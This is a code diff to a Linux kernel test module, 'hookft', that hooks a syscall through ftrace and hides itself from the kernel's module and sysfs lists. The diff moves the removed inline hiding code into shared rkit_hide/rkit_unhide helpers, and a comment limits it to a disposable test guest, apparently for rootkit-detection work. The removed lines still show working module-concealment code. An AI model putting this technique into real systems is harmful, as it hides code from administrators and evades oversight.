@@ -15,11 +15,10 @@
  * teardown would find no directory).  For testing only; loaded in a
  * disposable test guest.
  */
-#include <linux/kobject.h>
 #include <linux/ftrace.h>
-#include <linux/module.h>
 #include <linux/proc_fs.h>
-#include <linux/rculist.h>
+
+#include "rkit.h"
 
 static char *sym = "__x64_sys_sysinfo";
 module_param(sym, charp, 0444);
@@ -27,9 +26,7 @@ static int hide = 1;
 module_param(hide, int, 0444);
 static ulong hits;
 
-static struct list_head *modules_head;
-static struct kset *kset;
-static bool hidden, registered;
+static bool registered;
 
 static void notrace callback(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *op,
 			     struct ftrace_regs *fregs)
@@ -39,29 +36,12 @@ static void notrace callback(unsigned long ip, unsigned long parent_ip, struct f
 
 static struct ftrace_ops ops = { .func = callback, .flags = FTRACE_OPS_FL_RECURSION };
 
-static struct list_head *find_head(void)
-{
-	struct list_head *p;
-	int n = 0;
-
-	for (p = THIS_MODULE->list.next; p != &THIS_MODULE->list && n < 100000; p = p->next, n++)
-		if ((unsigned long)p < MODULES_VADDR || (unsigned long)p >= MODULES_END)
-			return p;
-	return NULL;
-}
-
 static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
 {
 	if (registered)
 		unregister_ftrace_function(&ops);
 	registered = false;
-	if (hidden) {
-		list_add_tail_rcu(&THIS_MODULE->list, modules_head);
-		spin_lock(&kset->list_lock);
-		list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &kset->list);
-		spin_unlock(&kset->list_lock);
-		hidden = false;
-	}
+	rkit_unhide();
 	pr_info("hookft: ftrace hook removed, module listed\n");
 	return len;
 }
@@ -84,16 +64,15 @@ static int __init hookft_init(void)
 	pr_info("hookft: ftrace_ops %px on %s, callback %px\n", &ops, sym, callback);
 	if (!hide)
 		return 0;
-	modules_head = find_head();
-	kset = THIS_MODULE->mkobj.kobj.kset;
-	if (!modules_head || !kset || !proc_create("hookft", 0200, NULL, &ctl_ops)) {
+	if (!proc_create("hookft", 0200, NULL, &ctl_ops)) {
 		unregister_ftrace_function(&ops);
+		return -ENOMEM;
+	}
+	if (rkit_hide()) {
+		unregister_ftrace_function(&ops);
+		remove_proc_entry("hookft", NULL);
 		return -ENOENT;
 	}
-	kset_get(kset);
-	list_del(&THIS_MODULE->list);
-	kobject_del(&THIS_MODULE->mkobj.kobj);
-	hidden = true;
 	return 0;
 }
 
